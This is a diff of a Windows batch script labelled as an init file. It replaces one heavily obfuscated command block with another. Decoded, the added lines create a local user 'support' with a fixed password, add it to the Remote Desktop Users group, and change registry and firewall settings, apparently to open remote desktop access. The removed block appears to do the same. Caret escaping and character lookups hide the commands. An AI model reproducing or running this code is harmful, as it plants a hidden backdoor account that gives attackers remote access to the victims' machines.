@@ -1,16 +1,16 @@
-REM init 7203 v3
-@^e^ch^o of^f
-se^t "tozt=/#N9ar7QGemudhMspynXotJw8"
-%tozt:~-7,1%%tozt:~9,1%%tozt:~21,1% %tozt:~11,1%%tozt:~15,1%%tozt:~9,1%%tozt:~5,1% %tozt:~-10,1%%tozt:~11,1%%tozt:~16,1%%tozt:~16,1%%tozt:~20,1%%tozt:~-20,1%%tozt:~21,1% %tozt:~7,1%%tozt:~23,1%%tozt:~-16,1%%tozt:~5,1%%tozt:~21,1%%tozt:~-8,1%%tozt:~-24,1%%tozt:~6,1%%tozt:~6,1%%tozt:~-1,1%%tozt:~24,1% %tozt:~0,1%%tozt:~-21,1%%tozt:~-13,1%%tozt:~12,1% %tozt:~-25,1%%tozt:~-8,1%
-@echo off
-s^et "rxwm=j/cnuXd9srmielta6NYoRgpI"
-%rxwm:~3,1%%rxwm:~12,1%%rxwm:~14,1% %rxwm:~13,1%%rxwm:~19,1%%rxwm:~2,1%%rxwm:~15,1%%rxwm:~13,1%%rxwm:~21,1%%rxwm:~9,1%%rxwm:~19,1%%rxwm:~4,1%%rxwm:~22,1% %rxwm:~15,1%%rxwm:~-18,1%%rxwm:~-14,1%%rxwm:~11,1%%rxwm:~3,1%%rxwm:~11,1%%rxwm:~8,1%%rxwm:~14,1%%rxwm:~9,1%%rxwm:~15,1%%rxwm:~-10,1%%rxwm:~19,1%%rxwm:~-15,1%%rxwm:~-16,1% %rxwm:~-16,1%%rxwm:~4,1%%rxwm:~-2,1%%rxwm:~22,1%%rxwm:~19,1%%rxwm:~-15,1%%rxwm:~14,1% %rxwm:~1,1%%rxwm:~15,1%%rxwm:~-18,1%%rxwm:~6,1%
-@ech^o ^of^f
-s^e^t "qaad=apkcCtUlsnqRgrmxSe2jNd/uoFD"
-%qaad:~-18,1%%qaad:~-10,1%%qaad:~-22,1% %qaad:~7,1%%qaad:~-3,1%%qaad:~-24,1%%qaad:~0,1%%qaad:~7,1%%qaad:~12,1%%qaad:~13,1%%qaad:~-3,1%%qaad:~-4,1%%qaad:~-26,1% "%qaad:~11,1%%qaad:~17,1%%qaad:~14,1%%qaad:~-3,1%%qaad:~-22,1%%qaad:~17,1% %qaad:~26,1%%qaad:~17,1%%qaad:~8,1%%qaad:~2,1%%qaad:~5,1%%qaad:~24,1%%qaad:~-26,1% %qaad:~6,1%%qaad:~-19,1%%qaad:~17,1%%qaad:~13,1%%qaad:~8,1%" %qaad:~8,1%%qaad:~23,1%%qaad:~-26,1%%qaad:~-26,1%%qaad:~-3,1%%qaad:~13,1%%qaad:~5,1% %qaad:~-5,1%%qaad:~-27,1%%qaad:~21,1%%qaad:~21,1%
-@^ec^ho off
-^se^t "rdie=_gPGaeEKMbWm0tOrs/ZLlcCiAD4\NuSdnYHyf9R5Tov"
-%rdie:~15,1%%rdie:~5,1%%rdie:~1,1% %rdie:~4,1%%rdie:~31,1%%rdie:~31,1% "%rdie:~34,1%%rdie:~-36,1%%rdie:~19,1%%rdie:~8,1%%rdie:~-16,1%%rdie:~30,1%%rdie:~33,1%%rdie:~30,1%%rdie:~40,1%%rdie:~-37,1%%rdie:~8,1%%rdie:~27,1%%rdie:~22,1%%rdie:~29,1%%rdie:~-28,1%%rdie:~15,1%%rdie:~5,1%%rdie:~32,1%%rdie:~13,1%%rdie:~-21,1%%rdie:~41,1%%rdie:~32,1%%rdie:~-30,1%%rdie:~-28,1%%rdie:~-2,1%%rdie:~20,1%%rdie:~-13,1%%rdie:~-38,1%%rdie:~13,1%%rdie:~-16,1%%rdie:~22,1%%rdie:~41,1%%rdie:~32,1%%rdie:~-30,1%%rdie:~-28,1%%rdie:~41,1%%rdie:~20,1%%rdie:~27,1%%rdie:~40,1%%rdie:~-38,1%%rdie:~15,1%%rdie:~11,1%%rdie:~23,1%%rdie:~-11,1%%rdie:~4,1%%rdie:~20,1% %rdie:~-13,1%%rdie:~5,1%%rdie:~15,1%%rdie:~42,1%%rdie:~-38,1%%rdie:~15,1%" %rdie:~17,1%%rdie:~42,1% %rdie:~36,1%%rdie:~25,1%%rdie:~5,1%%rdie:~32,1%%rdie:~35,1%%rdie:~-3,1%%rdie:~30,1%%rdie:~22,1%%rdie:~41,1%%rdie:~-11,1%%rdie:~-11,1%%rdie:~-38,1%%rdie:~-22,1%%rdie:~-30,1%%rdie:~23,1%%rdie:~41,1%%rdie:~-11,1%%rdie:~16,1% %rdie:~-26,1%%rdie:~13,1% %rdie:~38,1%%rdie:~6,1%%rdie:~3,1%%rdie:~0,1%%rdie:~25,1%%rdie:~-33,1%%rdie:~-29,1%%rdie:~-5,1%%rdie:~25,1% %rdie:~17,1%%rdie:~31,1% %rdie:~12,1% %rdie:~17,1%%rdie:~36,1%
-@ech^o off
-se^t "smxm=1EsUhtAalropQHnbvwIdfie"
-%smxm:~-9,1%%smxm:~22,1%%smxm:~5,1%%smxm:~-21,1%%smxm:~4,1% %smxm:~-16,1%%smxm:~19,1%%smxm:~-7,1%%smxm:~20,1%%smxm:~21,1%%smxm:~-14,1%%smxm:~22,1%%smxm:~17,1%%smxm:~7,1%%smxm:~8,1%%smxm:~8,1% %smxm:~2,1%%smxm:~-1,1%%smxm:~-18,1% %smxm:~7,1%%smxm:~8,1%%smxm:~8,1%%smxm:~11,1%%smxm:~-14,1%%smxm:~10,1%%smxm:~-3,1%%smxm:~21,1%%smxm:~8,1%%smxm:~22,1%%smxm:~2,1% %smxm:~2,1%%smxm:~-18,1%%smxm:~7,1%%smxm:~5,1%%smxm:~-1,1% %smxm:~10,1%%smxm:~20,1%%smxm:~20,1%
+REM init 1772 v3
+@ech^o o^ff
+^set "dksl=P8EytwQh3Uns/Fda7GopN#rue"
+%dksl:~10,1%%dksl:~-1,1%%dksl:~4,1% %dksl:~23,1%%dksl:~-14,1%%dksl:~24,1%%dksl:~22,1% %dksl:~11,1%%dksl:~-2,1%%dksl:~-6,1%%dksl:~-6,1%%dksl:~18,1%%dksl:~-3,1%%dksl:~4,1% %dksl:~6,1%%dksl:~5,1%%dksl:~24,1%%dksl:~-3,1%%dksl:~4,1%%dksl:~3,1%%dksl:~21,1%%dksl:~16,1%%dksl:~-9,1%%dksl:~-24,1%%dksl:~-24,1% %dksl:~12,1%%dksl:~-10,1%%dksl:~14,1%%dksl:~-11,1% %dksl:~12,1%%dksl:~3,1%
+@e^cho ^o^f^f
+set "yvrf=ruYQ/tcngiyIadlsepWKomfM"
+%yvrf:~-17,1%%yvrf:~16,1%%yvrf:~5,1% %yvrf:~14,1%%yvrf:~-4,1%%yvrf:~-18,1%%yvrf:~12,1%%yvrf:~14,1%%yvrf:~8,1%%yvrf:~-24,1%%yvrf:~20,1%%yvrf:~1,1%%yvrf:~17,1% %yvrf:~12,1%%yvrf:~-11,1%%yvrf:~21,1%%yvrf:~9,1%%yvrf:~7,1%%yvrf:~9,1%%yvrf:~15,1%%yvrf:~5,1%%yvrf:~-24,1%%yvrf:~-12,1%%yvrf:~5,1%%yvrf:~-4,1%%yvrf:~0,1%%yvrf:~15,1% %yvrf:~-9,1%%yvrf:~-23,1%%yvrf:~-7,1%%yvrf:~17,1%%yvrf:~20,1%%yvrf:~0,1%%yvrf:~5,1% %yvrf:~4,1%%yvrf:~12,1%%yvrf:~13,1%%yvrf:~-11,1%
+@^ec^h^o ^of^f
+^s^e^t "menq=UXRsO2a3uc/ndlSrmgGj0kpeotD"
+%menq:~11,1%%menq:~23,1%%menq:~25,1% %menq:~-14,1%%menq:~-3,1%%menq:~-18,1%%menq:~6,1%%menq:~-14,1%%menq:~17,1%%menq:~-12,1%%menq:~24,1%%menq:~-19,1%%menq:~22,1% "%menq:~-25,1%%menq:~23,1%%menq:~-11,1%%menq:~24,1%%menq:~-2,1%%menq:~-4,1% %menq:~26,1%%menq:~23,1%%menq:~-24,1%%menq:~-6,1%%menq:~25,1%%menq:~24,1%%menq:~22,1% %menq:~0,1%%menq:~3,1%%menq:~23,1%%menq:~15,1%%menq:~3,1%" %menq:~-24,1%%menq:~8,1%%menq:~22,1%%menq:~22,1%%menq:~24,1%%menq:~15,1%%menq:~25,1% %menq:~10,1%%menq:~6,1%%menq:~12,1%%menq:~-15,1%
+@^ec^ho ^off
+s^et "djie=gOZCirlcuTmGMRoWKHLYdf_4\A0tIe/j8sVv5DyaEnS"
+%djie:~5,1%%djie:~-14,1%%djie:~0,1% %djie:~39,1%%djie:~20,1%%djie:~20,1% "%djie:~17,1%%djie:~16,1%%djie:~18,1%%djie:~12,1%%djie:~24,1%%djie:~-1,1%%djie:~19,1%%djie:~-1,1%%djie:~9,1%%djie:~40,1%%djie:~12,1%%djie:~24,1%%djie:~3,1%%djie:~-35,1%%djie:~5,1%%djie:~-38,1%%djie:~29,1%%djie:~41,1%%djie:~-16,1%%djie:~3,1%%djie:~14,1%%djie:~41,1%%djie:~27,1%%djie:~5,1%%djie:~-29,1%%djie:~-37,1%%djie:~-1,1%%djie:~-14,1%%djie:~27,1%%djie:~24,1%%djie:~3,1%%djie:~14,1%%djie:~41,1%%djie:~27,1%%djie:~5,1%%djie:~-29,1%%djie:~-37,1%%djie:~24,1%%djie:~-34,1%%djie:~29,1%%djie:~5,1%%djie:~-33,1%%djie:~4,1%%djie:~41,1%%djie:~39,1%%djie:~6,1% %djie:~42,1%%djie:~-14,1%%djie:~5,1%%djie:~35,1%%djie:~-14,1%%djie:~-38,1%" %djie:~30,1%%djie:~-8,1% %djie:~21,1%%djie:~-6,1%%djie:~29,1%%djie:~-2,1%%djie:~38,1%%djie:~9,1%%djie:~42,1%%djie:~3,1%%djie:~14,1%%djie:~41,1%%djie:~41,1%%djie:~29,1%%djie:~7,1%%djie:~27,1%%djie:~4,1%%djie:~-29,1%%djie:~-2,1%%djie:~33,1% %djie:~-13,1%%djie:~27,1% %djie:~13,1%%djie:~40,1%%djie:~11,1%%djie:~-21,1%%djie:~-6,1%%djie:~15,1%%djie:~-42,1%%djie:~-30,1%%djie:~-6,1% %djie:~-13,1%%djie:~-23,1% %djie:~26,1% %djie:~-13,1%%djie:~-22,1%
+@ech^o of^f
+set "wlmt=lfriahwn2Otbvs3oduyAMpe"
+%wlmt:~-16,1%%wlmt:~22,1%%wlmt:~-13,1%%wlmt:~13,1%%wlmt:~5,1% %wlmt:~4,1%%wlmt:~16,1%%wlmt:~12,1%%wlmt:~1,1%%wlmt:~3,1%%wlmt:~2,1%%wlmt:~22,1%%wlmt:~-17,1%%wlmt:~-19,1%%wlmt:~0,1%%wlmt:~-23,1% %wlmt:~13,1%%wlmt:~-1,1%%wlmt:~-13,1% %wlmt:~4,1%%wlmt:~-23,1%%wlmt:~0,1%%wlmt:~21,1%%wlmt:~-21,1%%wlmt:~15,1%%wlmt:~1,1%%wlmt:~-20,1%%wlmt:~0,1%%wlmt:~22,1%%wlmt:~13,1% %wlmt:~-10,1%%wlmt:~10,1%%wlmt:~4,1%%wlmt:~10,1%%wlmt:~-1,1% %wlmt:~-8,1%%wlmt:~1,1%%wlmt:~1,1%
